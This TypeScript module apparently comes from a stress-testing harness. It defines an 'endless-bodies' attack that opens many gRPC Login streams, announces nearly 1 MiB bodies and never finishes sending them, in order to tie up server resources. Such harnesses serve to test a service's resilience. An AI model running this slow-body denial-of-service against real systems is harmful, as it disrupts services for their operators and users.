import type { Attack } from './attack.ts';
import { callGrpc } from './attacker.ts';

const BODY_BYTES = 1_048_576;
const PER_CONNECTION = 100;

/** Logins whose bodies are announced, almost sent, and never ended. */
export const endlessBodies: Attack = {
  name: 'endless-bodies',
  what: 'logins just short of 1 MiB that never end',
  size: { small: 20, large: 700 },
  repeats: false,
  async run(attacker, size, signal) {
    const body = Buffer.alloc(BODY_BYTES - 1);
    body.writeUInt32BE(BODY_BYTES - 5, 1);
    let begun = 0;
    for (const session of attacker.openFor(size, PER_CONNECTION)) {
      for (let sent = 0; sent < PER_CONNECTION && begun < size && !signal.aborted; sent += 1) {
        const stream = callGrpc(session, { path: '/redleaf.v1.SessionService/Login' });
        if (stream === undefined) break;
        begun += 1;
        void attacker.tally.watch(stream);
        stream.resume();
        stream.write(body);
        await new Promise((turn) => setImmediate(turn));
      }
    }
  },
};
